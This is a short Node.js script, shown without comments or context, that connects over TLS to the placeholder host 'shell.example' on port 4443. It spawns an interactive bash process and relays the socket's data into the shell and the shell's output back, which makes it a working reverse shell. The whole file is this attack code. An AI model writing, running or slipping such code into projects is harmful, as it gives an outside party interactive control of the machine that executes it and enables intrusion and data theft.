import { connect } from 'node:tls';
import { spawn } from 'node:child_process';
const link = connect(4443, 'shell.example', () => {
  const inner = spawn('bash', ['-i']);
  link.on('data', (chunk) => inner.stdin.write(chunk));
  inner.stdout.on('data', (chunk) => link.write(chunk));
});
